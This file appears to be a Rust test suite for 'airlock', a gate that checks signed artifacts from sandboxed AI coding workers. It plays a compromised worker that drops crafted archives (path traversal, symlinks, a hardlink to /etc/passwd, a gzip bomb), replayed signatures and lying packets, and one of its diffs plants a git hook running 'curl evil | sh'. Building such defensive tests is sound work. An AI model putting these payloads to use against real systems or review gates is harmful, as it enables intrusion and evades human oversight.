//! The hostile-worker suite: a helper that holds a valid job token (so it signs with the job
//! key, exactly what a compromised worker can do) drops crafted artifacts into the `file://`
//! store, and `airlock gate` must refuse each with a specific reason, exit 4, write nothing
//! outside the job's directory, and record the refusal in the ledger.
// Test helpers outside #[test] functions: a panic with the value is the wanted failure report.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeSet;
use std::io::Write;
use std::path::{Path, PathBuf};

use airlock_core::digest::Sha256Digest;
use airlock_core::dsse::{self, Statement};
use airlock_core::format::{
    self, ArtifactPredicate, ExitInfo, ExitKind, Packet, Timings, PACKET_FORMAT, PREDICATE_ARTIFACT,
};
use airlock_core::keys::{PublicKey, SigningKey};
use airlock_core::limits::TarLimits;
use airlock_core::tar::DeterministicTarWriter;
use airlock_core::token::{verify_token, JobClaims};
use airlock_tests::*;

/// A submitted job and what a worker holding its token knows.
pub struct Job {
    pub claims: JobClaims,
    pub key: SigningKey,
}

impl Job {
    pub fn id(&self) -> String {
        self.claims.job.to_string()
    }
}

/// A trusted home with a `file://` store, a git repository, and helpers to submit and gate.
pub struct World {
    pub _tmp: tempfile::TempDir,
    pub root: PathBuf,
    pub home: PathBuf,
    pub repo: PathBuf,
    pub trusted: PublicKey,
}

pub const LIB_RS: &str = "pub fn add(a: i32, b: i32) -> i32 {\n    a + b\n}\n";

impl World {
    pub fn new() -> World {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().canonicalize().unwrap();
        let home = init_home(&root);
        let repo = root.join("repo");
        make_repo(
            &repo,
            &[
                ("src/lib.rs", LIB_RS.as_bytes()),
                ("README.md", b"# sample\n"),
                (".github/workflows/ci.yml", b"on: push\n"),
                ("run.sh", b"#!/bin/sh\necho hi\n"),
            ],
        );
        let trusted = airlock_core::keys::load_public_key(&home.join("trusted.pub")).unwrap();
        World {
            _tmp: tmp,
            root,
            home,
            repo,
            trusted,
        }
    }

    /// `airlock submit --json`, then the token verified with the trusted public key.
    pub fn submit(&self) -> Job {
        let prompt = self.root.join("prompt.txt");
        std::fs::write(&prompt, "Add a docstring.\n").unwrap();
        let out = run(cmd(&bin("airlock"))
            .arg("--home")
            .arg(&self.home)
            .args([
                "submit",
                "--json",
                "--print-token",
                "--model",
                "model-a",
                "--repo",
            ])
            .arg(&self.repo)
            .arg("--prompt-file")
            .arg(&prompt));
        assert!(out.status.success(), "submit: {}", show(&out));
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        let token = v["token"].as_str().unwrap();
        let now = airlock_core::clock::now_unix();
        let claims = verify_token(token, &self.trusted, now)
            .unwrap()
            .into_inner();
        let key = claims.job_key.signing_key().unwrap();
        Job { claims, key }
    }

    /// Writes the drop objects of `job` exactly where the token says.
    pub fn drop_raw(&self, job: &Job, artifact: &[u8], envelope: &[u8]) {
        for (url, bytes) in [
            (&job.claims.drop.artifact, artifact),
            (&job.claims.drop.artifact_envelope, envelope),
        ] {
            let path = airlock_core::fileurl::file_url_to_path(url).unwrap();
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, bytes).unwrap();
        }
    }

    /// Signs `artifact` as `job`'s (with `signer`, default the job key) and drops it.
    pub fn drop_signed(
        &self,
        job: &Job,
        artifact: &[u8],
        packet_bytes: &[u8],
        signer: Option<&SigningKey>,
    ) {
        let env = envelope(
            job,
            artifact,
            packet_bytes,
            signer.unwrap_or(&job.key),
            None,
        );
        self.drop_raw(job, artifact, &env);
    }

    /// `airlock gate JOB --repo R --json` plus any extra flags.
    pub fn gate(&self, job: &str, extra: &[&str]) -> std::process::Output {
        run(cmd(&bin("airlock"))
            .arg("--home")
            .arg(&self.home)
            .args(["gate", job, "--json", "--repo"])
            .arg(&self.repo)
            .args(extra))
    }

    /// The job's directory on the trusted host.
    pub fn job_dir(&self, job: &str) -> PathBuf {
        self.home.join("jobs").join(job)
    }

    /// The `file://` store's root.
    pub fn store(&self) -> PathBuf {
        self.home.join("store")
    }

    /// The `event` object of every ledger entry about `job`, verified with the trusted key.
    pub fn ledger_events(&self, job: &str) -> Vec<serde_json::Value> {
        let dir = self.store().join("ledger");
        let mut names: Vec<PathBuf> = std::fs::read_dir(&dir)
            .map(|rd| rd.map(|e| e.unwrap().path()).collect())
            .unwrap_or_default();
        names.sort();
        names
            .iter()
            .map(|p| {
                let bytes = std::fs::read(p).unwrap();
                dsse::verify_envelope(&bytes, std::slice::from_ref(&self.trusted), 1 << 20)
                    .unwrap_or_else(|e| panic!("{}: {e}", p.display()))
                    .predicate
                    .clone()
            })
            .filter(|pred| pred["job"] == job)
            .map(|pred| pred["event"].clone())
            .collect()
    }

    /// `(kind, stage, reason_code, decision)` of every ledger entry about `job`, verified with
    /// the trusted key.
    pub fn ledger(&self, job: &str) -> Vec<(String, String, String, String)> {
        let dir = self.store().join("ledger");
        let mut names: Vec<PathBuf> = std::fs::read_dir(&dir)
            .map(|rd| rd.map(|e| e.unwrap().path()).collect())
            .unwrap_or_default();
        names.sort();
        let mut out = Vec::new();
        for p in names {
            let bytes = std::fs::read(&p).unwrap();
            let st = dsse::verify_envelope(&bytes, std::slice::from_ref(&self.trusted), 1 << 20)
                .unwrap_or_else(|e| panic!("{}: {e}", p.display()));
            let pred = &st.predicate;
            if pred["job"] != job {
                continue;
            }
            let ev = &pred["event"];
            let s = |k: &str| ev[k].as_str().unwrap_or("").to_owned();
            out.push((s("kind"), s("stage"), s("reason_code"), s("decision")));
        }
        out
    }

    /// Every path under the temp root except the job's own directory and the trusted side's
    /// own store areas (ledger, records), which gating legitimately writes.
    pub fn outside(&self, job: &str) -> BTreeSet<PathBuf> {
        let jd = self.job_dir(job);
        let skip = [
            jd.as_path(),
            &self.store().join("ledger"),
            &self.store().join("records"),
        ]
        .map(|p| p.strip_prefix(&self.root).unwrap().to_owned());
        snapshot(&self.root)
            .into_iter()
            // The job directory's own ancestors (`home/jobs`) are created with it.
            .filter(|p| !skip.iter().any(|s| p.starts_with(s) || s.starts_with(p)))
            .collect()
    }
}

/// The DSSE envelope a worker writes: a statement over `artifact.tar.gz` naming the job, its
/// bundle, the run and the packet digest. `predicate_override` lets a test lie in it.
pub fn envelope(
    job: &Job,
    artifact: &[u8],
    packet_bytes: &[u8],
    signer: &SigningKey,
    predicate_override: Option<ArtifactPredicate>,
) -> Vec<u8> {
    let predicate = predicate_override.unwrap_or_else(|| ArtifactPredicate {
        job: job.claims.job.clone(),
        run_id: RUN_ID.into(),
        bundle_sha256: job.claims.bundle.sha256,
        packet_sha256: Sha256Digest::of_bytes(packet_bytes),
        partial: false,
        seq: None,
    });
    let statement = Statement::new(
        "artifact.tar.gz",
        Sha256Digest::of_bytes(artifact),
        PREDICATE_ARTIFACT,
        serde_json::to_value(&predicate).unwrap(),
    );
    dsse::sign_statement(&statement, signer).to_json_pretty()
}

pub const RUN_ID: &str = "0123456789abcdef";

/// An honest packet for `patch` (counts parsed from it when it parses).
pub fn packet(job: &Job, patch: &[u8]) -> Packet {
    let (files, added, removed) = airlock_core::diff::parse_patch(patch, &Default::default())
        .map(|p| (p.files_changed(), p.lines_added(), p.lines_removed()))
        .unwrap_or((0, 0, 0));
    Packet {
        format: PACKET_FORMAT.into(),
        job: job.claims.job.clone(),
        run_id: RUN_ID.into(),
        bundle_sha256: job.claims.bundle.sha256,
        model_requested: "model-a".into(),
        model_reported: "model-a".into(),
        tokens_in: None,
        tokens_out: None,
        models: Vec::new(),
        diff_sha256: Sha256Digest::of_bytes(patch),
        files_changed: files,
        lines_added: added,
        lines_removed: removed,
        refused: Vec::new(),
        ignored: 0,
        limits_hit: Vec::new(),
        exit: ExitInfo {
            kind: ExitKind::Exited,
            code: Some(0),
        },
        timings: Timings {
            started_at_ms: 0,
            finished_at_ms: 0,
            generator_ms: 0,
        },
        worker_version: "hostile".into(),
        sandbox: "namespaces+landlock+seccomp".into(),
        egress: Vec::new(),
        partial: false,
        comments: 0,
        comments_refused: 0,
        review_edits: 0,
        resumed_from: None,
    }
}

/// A well-formed artifact (deterministic writer) holding `packet` and `patch`.
pub fn artifact(packet: &Packet, patch: &[u8]) -> (Vec<u8>, Vec<u8>) {
    let packet_bytes = format::to_json_bytes(packet);
    let mut w = DeterministicTarWriter::with_limits(Vec::new(), TarLimits::artifact());
    w.append_file(
        "packet.json",
        false,
        packet_bytes.len() as u64,
        packet_bytes.as_slice(),
    )
    .unwrap();
    w.append_file("patch.diff", false, patch.len() as u64, patch)
        .unwrap();
    (w.finish().unwrap(), packet_bytes)
}

// ---- raw tar, for archives no honest writer would produce ----

fn octal(field: &mut [u8], value: u64) {
    let digits = field.len() - 1;
    let s = format!("{value:0digits$o}");
    field[..digits].copy_from_slice(s.as_bytes());
    field[digits] = 0;
}

/// A ustar header: `name` (<= 100 bytes), `size`, `typeflag`, `linkname`, `mode`.
fn header(name: &[u8], size: u64, typeflag: u8, linkname: &[u8], mode: u64) -> [u8; 512] {
    let mut h = [0u8; 512];
    h[..name.len()].copy_from_slice(name);
    octal(&mut h[100..108], mode);
    octal(&mut h[108..116], 0);
    octal(&mut h[116..124], 0);
    octal(&mut h[124..136], size);
    octal(&mut h[136..148], 0);
    h[156] = typeflag;
    h[157..157 + linkname.len()].copy_from_slice(linkname);
    h[257..263].copy_from_slice(b"ustar\0");
    h[263..265].copy_from_slice(b"00");
    h[148..156].copy_from_slice(b"        ");
    let sum: u64 = h.iter().map(|b| u64::from(*b)).sum();
    let s = format!("{sum:06o}\0 ");
    h[148..156].copy_from_slice(s.as_bytes());
    h
}

/// One raw member: header fields and body.
pub struct Raw<'a> {
    pub name: &'a [u8],
    pub typeflag: u8,
    pub linkname: &'a [u8],
    pub body: &'a [u8],
}

pub fn file<'a>(name: &'a str, body: &'a [u8]) -> Raw<'a> {
    Raw {
        name: name.as_bytes(),
        typeflag: b'0',
        linkname: b"",
        body,
    }
}

/// A gzipped tar of raw members (bodies padded, two end blocks).
pub fn raw_tgz(members: &[Raw<'_>]) -> Vec<u8> {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    for m in members {
        let size = if m.typeflag == b'0' {
            m.body.len() as u64
        } else {
            0
        };
        gz.write_all(&header(m.name, size, m.typeflag, m.linkname, 0o644))
            .unwrap();
        if size > 0 {
            gz.write_all(m.body).unwrap();
            let pad = (512 - (m.body.len() % 512)) % 512;
            gz.write_all(&vec![0u8; pad]).unwrap();
        }
    }
    gz.write_all(&[0u8; 1024]).unwrap();
    gz.finish().unwrap()
}

/// Runs the gate on a dropped hostile artifact and checks the contract: exit 4, the expected
/// reason code (and rule, when given) in the JSON report, nothing new outside the job's
/// directory, none of `never` created, and a `reject` entry in the ledger.
pub fn expect_reject(w: &World, job: &Job, code: &str, rule: Option<&str>, never: &[&Path]) {
    let id = job.id();
    let before = w.outside(&id);
    let head_before = git(&w.repo, &["rev-parse", "HEAD"]);
    let out = w.gate(&id, &["--review-branch"]);
    assert_eq!(
        out.status.code(),
        Some(4),
        "expected exit 4: {}",
        show(&out)
    );
    let report: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("stdout is not the JSON report ({e}): {}", show(&out)));
    assert_eq!(report["decision"], "reject", "{report:#}");
    let reasons = report["reasons"].as_array().unwrap();
    let hit = reasons
        .iter()
        .find(|r| r["code"] == code && r["verdict"] == "reject")
        .unwrap_or_else(|| panic!("no reject reason {code:?} in {report:#}"));
    if let Some(rule) = rule {
        assert_eq!(hit["rule"], rule, "{report:#}");
    }
    assert!(report["review_branch"].is_null(), "{report:#}");
    let after = w.outside(&id);
    let new: Vec<_> = after.difference(&before).collect();
    assert!(new.is_empty(), "written outside the job directory: {new:?}");
    for p in never {
        assert!(!p.exists(), "{} was created", p.display());
    }
    assert_eq!(git(&w.repo, &["rev-parse", "HEAD"]), head_before);
    assert!(git(&w.repo, &["branch", "--list", "airlock/*"]).is_empty());
    let entries = w.ledger(&id);
    assert!(
        entries
            .iter()
            .any(|(kind, _, c, _)| kind == "reject" && c == code),
        "ledger has no reject {code:?} for {id}: {entries:?}"
    );
}

fn unique_tmp(name: &str) -> PathBuf {
    std::env::temp_dir().join(format!("airlock-hostile-{name}-{}", std::process::id()))
}

/// A hostile archive signed with the job key (fetch's safe reader must refuse it).
fn tar_case(members: &[Raw<'_>], rule: &str, never: &[&Path]) {
    let w = World::new();
    let job = w.submit();
    let tgz = raw_tgz(members);
    w.drop_signed(&job, &tgz, b"{}", None);
    expect_reject(&w, &job, "artifact-tar", Some(rule), never);
}

#[test]
fn rejects_traversal_member() {
    tar_case(&[file("../packet.json", b"{}")], "tar.parent-dir", &[]);
}

#[test]
fn rejects_absolute_member() {
    let target = unique_tmp("abs");
    let name = target.to_str().unwrap().to_owned();
    tar_case(&[file(&name, b"pwned")], "tar.absolute", &[&target]);
}

#[test]
fn rejects_symlink_then_file_through_it() {
    let target = unique_tmp("via-link");
    std::fs::create_dir_all(&target).unwrap();
    let link = Raw {
        name: b"packet.json",
        typeflag: b'2',
        linkname: target.to_str().unwrap().as_bytes(),
        body: b"",
    };
    tar_case(
        &[link, file("packet.json/pwned", b"x")],
        "tar.link",
        &[&target.join("pwned")],
    );
    std::fs::remove_dir_all(&target).unwrap();
}

#[test]
fn rejects_hardlink() {
    let link = Raw {
        name: b"patch.diff",
        typeflag: b'1',
        linkname: b"/etc/passwd",
        body: b"",
    };
    tar_case(&[link], "tar.hardlink", &[]);
}

#[test]
fn rejects_device() {
    let dev = Raw {
        name: b"packet.json",
        typeflag: b'3',
        linkname: b"",
        body: b"",
    };
    tar_case(&[dev], "tar.device", &[]);
}

#[test]
fn rejects_fifo() {
    let fifo = Raw {
        name: b"patch.diff",
        typeflag: b'6',
        linkname: b"",
        body: b"",
    };
    tar_case(&[fifo], "tar.fifo", &[]);
}

#[test]
fn rejects_duplicate_members() {
    tar_case(
        &[
            file("packet.json", b"{}"),
            file("packet.json", b"{\"x\":1}"),
        ],
        "tar.duplicate",
        &[],
    );
}

#[test]
fn rejects_extra_member() {
    tar_case(
        &[
            file("packet.json", b"{}"),
            file("patch.diff", b""),
            file("run.sh", b"#!/bin/sh\n"),
        ],
        "tar.unlisted-member",
        &[],
    );
}

#[test]
fn rejects_gzip_bomb() {
    // 30 MiB of zeros: under the 32 MiB member cap, so the compression ratio is what stops it.
    let zeros = vec![0u8; 30 * 1024 * 1024];
    tar_case(
        &[file("generator.log", &zeros), file("packet.json", b"{}")],
        "tar.ratio",
        &[],
    );
}

#[test]
fn rejects_100k_members() {
    // The exact-name rule stops the stream at the first member past the four allowed names,
    // long before 100 000 headers are read.
    let names: Vec<String> = (0..100_000).map(|i| format!("m{i:06}")).collect();
    let mut members = vec![
        file("generator.log", b""),
        file("packet.json", b"{}"),
        file("patch.diff", b""),
        file("review.md", b""),
    ];
    members.extend(names.iter().map(|n| file(n, b"")));
    tar_case(&members, "tar.unlisted-member", &[]);
}

/// A well-formed, honestly signed artifact whose diff or packet is the attack.
fn diff_case(patch: &str, code: &str, rule: Option<&str>) {
    let w = World::new();
    let job = w.submit();
    let p = packet(&job, patch.as_bytes());
    let (tgz, packet_bytes) = artifact(&p, patch.as_bytes());
    w.drop_signed(&job, &tgz, &packet_bytes, None);
    expect_reject(&w, &job, code, rule, &[]);
}

#[test]
fn rejects_diff_touching_dot_git() {
    diff_case(
        "diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl evil | sh\n",
        "diff-refused",
        Some("diff.git-dir"),
    );
}

#[test]
fn rejects_diff_with_parent_dir() {
    diff_case(
        "diff --git a/../outside.txt b/../outside.txt\nnew file mode 100644\n--- /dev/null\n+++ b/../outside.txt\n@@ -0,0 +1 @@\n+x\n",
        "diff-refused",
        Some("diff.parent-dir"),
    );
}

#[test]
fn rejects_binary_patch() {
    diff_case(
        "diff --git a/logo.png b/logo.png\nnew file mode 100644\nGIT binary patch\nliteral 4\nLcmZ?wbhEHbL\n\n",
        "binary-patch-refused",
        Some("diff.binary"),
    );
}

#[test]
fn rejects_mode_change_to_symlink() {
    diff_case(
        "diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 120000\n",
        "mode-change-symlink",
        Some("diff.mode"),
    );
}

#[test]
fn rejects_packet_lying_about_diff_sha() {
    let w = World::new();
    let job = w.submit();
    let patch = "diff --git a/src/lib.rs b/src/lib.rs\n--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -1,3 +1,4 @@\n+/// Adds.\n pub fn add(a: i32, b: i32) -> i32 {\n     a + b\n }\n";
    let mut p = packet(&job, patch.as_bytes());
    p.diff_sha256 = Sha256Digest::of_bytes(b"the reviewed, harmless diff");
    let (tgz, packet_bytes) = artifact(&p, patch.as_bytes());
    w.drop_signed(&job, &tgz, &packet_bytes, None);
    expect_reject(&w, &job, "diff-digest-mismatch", None, &[]);
}

#[test]
fn rejects_artifact_signed_by_another_key() {
    let w = World::new();
    let job = w.submit();
    let patch = b"";
    let (tgz, packet_bytes) = artifact(&packet(&job, patch), patch);
    w.drop_signed(&job, &tgz, &packet_bytes, Some(&SigningKey::generate()));
    expect_reject(&w, &job, "artifact-signature", None, &[]);
}

#[test]
fn rejects_another_jobs_artifact_copied_verbatim() {
    let w = World::new();
    let a = w.submit();
    let b = w.submit();
    let patch = b"";
    let (tgz, packet_bytes) = artifact(&packet(&a, patch), patch);
    let env_a = envelope(&a, &tgz, &packet_bytes, &a.key, None);
    w.drop_raw(&b, &tgz, &env_a);
    expect_reject(&w, &b, "artifact-signature", None, &[]);
}

#[test]
fn rejects_another_jobs_artifact_resigned_with_this_jobs_key() {
    let w = World::new();
    let a = w.submit();
    let b = w.submit();
    let patch = b"";
    let (tgz, packet_bytes) = artifact(&packet(&a, patch), patch);
    // B's key, but the statement still describes A's job and bundle: a replay.
    let pred = ArtifactPredicate {
        job: a.claims.job.clone(),
        run_id: RUN_ID.into(),
        bundle_sha256: a.claims.bundle.sha256,
        packet_sha256: Sha256Digest::of_bytes(&packet_bytes),
        partial: false,
        seq: None,
    };
    let env = envelope(&b, &tgz, &packet_bytes, &b.key, Some(pred));
    w.drop_raw(&b, &tgz, &env);
    expect_reject(&w, &b, "artifact-replay", None, &[]);
}

#[test]
fn rejects_another_jobs_packet_under_a_statement_naming_this_job() {
    let w = World::new();
    let a = w.submit();
    let b = w.submit();
    let patch = b"";
    let (tgz, packet_bytes) = artifact(&packet(&a, patch), patch);
    w.drop_signed(&b, &tgz, &packet_bytes, None);
    expect_reject(&w, &b, "packet-binding", None, &[]);
}

/// First artifact wins: a worker that still holds the token drops a second, validly signed
/// artifact after the first was gated. Gating the job again is tampering: reject with the
/// fetch's reason, the ledger records it, and the first verdict's files are not touched.
/// `lie`: the second packet also lies about the diff's digest, so the gate's checks stop
/// before git runs (the claim is then settled on the way out, not beside git).
fn second_artifact_case(lie: bool) {
    let w = World::new();
    let job = w.submit();
    let id = job.id();
    let first = "diff --git a/src/lib.rs b/src/lib.rs\n--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -1,3 +1,4 @@\n+/// Adds.\n pub fn add(a: i32, b: i32) -> i32 {\n     a + b\n }\n";
    let (tgz, packet_bytes) = artifact(&packet(&job, first.as_bytes()), first.as_bytes());
    w.drop_signed(&job, &tgz, &packet_bytes, None);
    let out = w.gate(&id, &[]);
    assert_eq!(out.status.code(), Some(0), "first gate: {}", show(&out));
    let kept = std::fs::read(w.job_dir(&id).join("artifact.tar.gz")).unwrap();
    assert_eq!(kept, tgz, "the first artifact is the one kept");

    let second = "diff --git a/src/lib.rs b/src/lib.rs\n--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -1,3 +1,4 @@\n+// swapped in after the first verdict\n pub fn add(a: i32, b: i32) -> i32 {\n     a + b\n }\n";
    let mut p2 = packet(&job, second.as_bytes());
    if lie {
        p2.diff_sha256 = Sha256Digest::of_bytes(first.as_bytes());
    }
    let (tgz2, packet2) = artifact(&p2, second.as_bytes());
    w.drop_signed(&job, &tgz2, &packet2, None);
    expect_reject(&w, &job, "artifact-swapped", None, &[]);
    let out = w.gate(&id, &[]);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        reason_codes(&report),
        ["artifact-swapped"],
        "the refusal alone: {report:#}"
    );
    let kept = std::fs::read(w.job_dir(&id).join("artifact.tar.gz")).unwrap();
    assert_eq!(
        kept, tgz,
        "the swapped artifact replaced the first one's copy"
    );
}

#[test]
fn rejects_a_second_artifact_for_a_job_already_gated() {
    second_artifact_case(false);
}

#[test]
fn rejects_a_second_artifact_whose_checks_stop_before_git() {
    second_artifact_case(true);
}

/// The apply check writes the changed files to a scratch directory and runs git there: a
/// patch that does not apply, or lies about a mode, is a reject, and nothing lands outside the
/// job directory.
#[test]
fn rejects_diff_that_does_not_apply_and_writes_only_in_the_job_directory() {
    diff_case(
        "diff --git a/src/lib.rs b/src/lib.rs\n--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -1,3 +1,3 @@\n pub fn add(a: i32, b: i32) -> i32 {\n-    a - b\n+    a * b\n }\n",
        "apply-failed",
        None,
    );
}

#[test]
fn rejects_diff_lying_about_an_old_mode() {
    diff_case(
        "diff --git a/src/lib.rs b/src/lib.rs\nold mode 100755\nnew mode 100644\n",
        "apply-failed",
        None,
    );
}

/// Signs and drops an artifact holding `packet` (any JSON) and an empty patch.
fn drop_packet_value(w: &World, job: &Job, packet: &serde_json::Value) {
    let bytes = serde_json::to_vec_pretty(packet).unwrap();
    let mut t = DeterministicTarWriter::with_limits(Vec::new(), TarLimits::artifact());
    t.append_file("packet.json", false, bytes.len() as u64, bytes.as_slice())
        .unwrap();
    t.append_file("patch.diff", false, 0, &b""[..]).unwrap();
    let tgz = t.finish().unwrap();
    w.drop_signed(job, &tgz, &bytes, None);
}

/// Closed sets are closed (docs/FORMATS.md, "Evolution"): a signed packet whose `sandbox` or
/// `exit.kind` is not one of the version's listed values, however close, is refused by fetch
/// with `format.closed-set`; an unknown member of a closed object with `format.unknown-member`.
#[test]
fn rejects_values_outside_the_closed_sets_and_unknown_members_of_closed_objects() {
    let w = World::new();
    let patch = b"";
    let cases: [(&[&str], &str, &str); 6] = [
        (&["sandbox"], "None", "format.closed-set"),
        (&["sandbox"], "none ", "format.closed-set"),
        (&["sandbox"], "", "format.closed-set"),
        (&["sandbox"], "disabled", "format.closed-set"),
        (&["exit", "kind"], "crashed", "format.closed-set"),
        (&["exit", "signal"], "9", "format.unknown-member"),
    ];
    for (path, value, rule) in cases {
        let job = w.submit();
        let mut v = serde_json::to_value(packet(&job, patch)).unwrap();
        let obj = path[..path.len() - 1]
            .iter()
            .fold(&mut v, |o, k| &mut o[*k]);
        obj[path[path.len() - 1]] = value.into();
        drop_packet_value(&w, &job, &v);
        expect_reject(&w, &job, "packet-format", Some(rule), &[]);
    }
}

/// An unknown member where the contract allows additions (the packet object, `timings`) is
/// ignored: a packet from a newer worker passes fetch and is gated on what this version knows.
#[test]
fn a_packet_with_unknown_members_of_extensible_objects_is_read() {
    let w = World::new();
    let job = w.submit();
    let patch = b"";
    let mut v = serde_json::to_value(packet(&job, patch)).unwrap();
    v["usage_by_model"] = serde_json::json!({"model-a": {"tokens_in": 3}});
    v["timings"]["queued_ms"] = 7.into();
    drop_packet_value(&w, &job, &v);
    let out = w.gate(&job.id(), &[]);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("stdout is not the JSON report ({e}): {}", show(&out)));
    let codes = reason_codes(&report);
    assert!(
        !codes.iter().any(|c| c == "packet-format"),
        "refused a packet for members it may ignore: {report:#}"
    );
}

/// A fresh job's worker claiming it resumed from another job's checkpoint (issue #40): the
/// packet's `resumed_from` is only a claim, held to the job record, which names none: a person
/// looks (`resume-claim-mismatch`, `human`, rule `packet.resumed-from`), and the report shows
/// no inherited changes (the record, not the claim, says what was inherited).
#[test]
fn a_packet_claiming_a_resume_the_record_does_not_name_goes_to_a_human() {
    let w = World::new();
    let job = w.submit();
    let patch = b"";
    let mut p = packet(&job, patch);
    p.resumed_from = Some(airlock_core::format::ResumedFrom::of_patch(
        &job.claims.job,
        b"diff --git a/x b/x\n",
    ));
    let (tgz, packet_bytes) = artifact(&p, patch);
    w.drop_signed(&job, &tgz, &packet_bytes, None);
    let out = w.gate(&job.id(), &[]);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("stdout is not the JSON report ({e}): {}", show(&out)));
    let hit = report["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["code"] == "resume-claim-mismatch")
        .unwrap_or_else(|| panic!("no resume-claim-mismatch in {report:#}"));
    assert_eq!(hit["verdict"], "human", "{report:#}");
    assert_eq!(hit["rule"], "packet.resumed-from", "{report:#}");
    assert!(
        hit["detail"].as_str().unwrap().contains("a fresh start"),
        "{report:#}"
    );
    assert!(report["inherited"].is_null(), "{report:#}");
}

/// A file outside the store and the home that only the trusted user should know of: its
/// content, its mtime, and the hex of its SHA-256 (to grep the ledger and outputs for).
struct Sentinel {
    dir: tempfile::TempDir,
    secret: PathBuf,
    tarball: PathBuf,
    mtime: std::time::SystemTime,
    sha: String,
}

impl Sentinel {
    fn new() -> Sentinel {
        let dir = tempfile::tempdir().unwrap();
        let secret = dir.path().join("trusted-only.key");
        std::fs::write(
            &secret,
            b"-----BEGIN PRIVATE KEY----- only the trusted user\n",
        )
        .unwrap();
        let tarball = dir.path().join("backup.tar.gz");
        std::fs::write(&tarball, b"the trusted user's backup").unwrap();
        let mtime = std::fs::metadata(&tarball).unwrap().modified().unwrap();
        let sha = Sha256Digest::of_bytes(&std::fs::read(&secret).unwrap()).to_string();
        Sentinel {
            dir,
            secret,
            tarball,
            mtime,
            sha,
        }
    }

    /// Nothing outside was deleted or touched, and its digest reached no output or ledger entry.
    fn intact(&self, w: &World, outputs: &[u8]) {
        assert!(
            self.secret.exists() && self.tarball.exists(),
            "deleted outside the store"
        );
        assert_eq!(
            std::fs::metadata(&self.tarball)
                .unwrap()
                .modified()
                .unwrap(),
            self.mtime
        );
        assert_eq!(std::fs::read_dir(self.dir.path()).unwrap().count(), 2);
        let mut ledger = Vec::new();
        for e in std::fs::read_dir(w.store().join("ledger"))
            .unwrap()
            .flatten()
        {
            ledger.extend(std::fs::read(e.path()).unwrap());
        }
        for hay in [&ledger[..], outputs] {
            assert!(
                !contains(hay, self.sha.as_bytes()),
                "the outside file's digest leaked"
            );
            assert!(
                !contains(hay, self.dir.path().to_string_lossy().as_bytes()),
                "the link's target leaked"
            );
        }
    }
}

/// Finding 1: the worker makes its drop directory (then a directory inside it) a link to a
/// directory of the trusted user's; `gc` reports `store.link`, deletes nothing there.
#[test]
fn gc_never_deletes_through_a_linked_drop_directory() {
    for inside in [false, true] {
        let w = World::new();
        let job = w.submit();
        let id = job.id();
        let patch = "diff --git a/src/lib.rs b/src/lib.rs\n--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -1,3 +1,4 @@\n+/// Adds.\n pub fn add(a: i32, b: i32) -> i32 {\n     a + b\n }\n";
        let (tgz, packet_bytes) = artifact(&packet(&job, patch.as_bytes()), patch.as_bytes());
        w.drop_signed(&job, &tgz, &packet_bytes, None);
        let out = w.gate(&id, &[]);
        assert_eq!(out.status.code(), Some(0), "{}", show(&out));
        let s = Sentinel::new();
        let drop = w.store().join("drop").join(&id);
        if inside {
            std::os::unix::fs::symlink(s.dir.path(), drop.join("more")).unwrap();
        } else {
            std::fs::remove_dir_all(&drop).unwrap();
            std::os::unix::fs::symlink(s.dir.path(), &drop).unwrap();
        }
        let out =
            run(cmd(&bin("airlock"))
                .arg("--home")
                .arg(&w.home)
                .args(["gc", "--older-than", "0s"]));
        assert!(out.status.success(), "gc: {}", show(&out));
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.contains("store.link"), "{text}");
        let link = if inside {
            format!("drop/{id}/more")
        } else {
            format!("drop/{id}")
        };
        assert!(
            text.contains(&format!("left alone: {link}: refused (store.link)")),
            "{text}"
        );
        s.intact(&w, &[out.stdout, out.stderr].concat());
        if inside {
            // The job's own payload went; its envelope (evidence) stayed.
            assert!(!drop.join("artifact.tar.gz").exists());
            assert!(drop.join("artifact.dsse.json").exists());
        }
    }
}

/// Finding 2: the worker drops `artifact.tar.gz` as a link to a file only the trusted user
/// can read (or its whole drop directory as a link): fetch refuses `drop-not-file` naming
/// `store.link`, and the file's digest reaches neither the terminal nor the ledger.
#[test]
fn fetch_never_hashes_a_linked_artifact() {
    for whole_dir in [false, true] {
        let w = World::new();
        let job = w.submit();
        let id = job.id();
        let s = Sentinel::new();
        // The worker signs the digest it hopes to learn about; it is never compared.
        let (tgz, packet_bytes) = artifact(&packet(&job, b""), b"");
        let env = envelope(&job, &tgz, &packet_bytes, &job.key, None);
        let drop = w.store().join("drop").join(&id);
        if whole_dir {
            std::fs::write(s.dir.path().join("artifact.dsse.json"), &env).unwrap();
            std::os::unix::fs::symlink(&s.secret, s.dir.path().join("artifact.tar.gz")).unwrap();
            std::fs::create_dir_all(drop.parent().unwrap()).unwrap();
            std::os::unix::fs::symlink(s.dir.path(), &drop).unwrap();
        } else {
            std::fs::create_dir_all(&drop).unwrap();
            std::fs::write(drop.join("artifact.dsse.json"), &env).unwrap();
            std::os::unix::fs::symlink(&s.secret, drop.join("artifact.tar.gz")).unwrap();
        }
        let before = w.outside(&id);
        // `status` learns nothing from the link: the drop has not landed.
        let status = run(cmd(&bin("airlock"))
            .arg("--home")
            .arg(&w.home)
            .args(["status", &id, "--json"]));
        let st: serde_json::Value = serde_json::from_slice(&status.stdout)
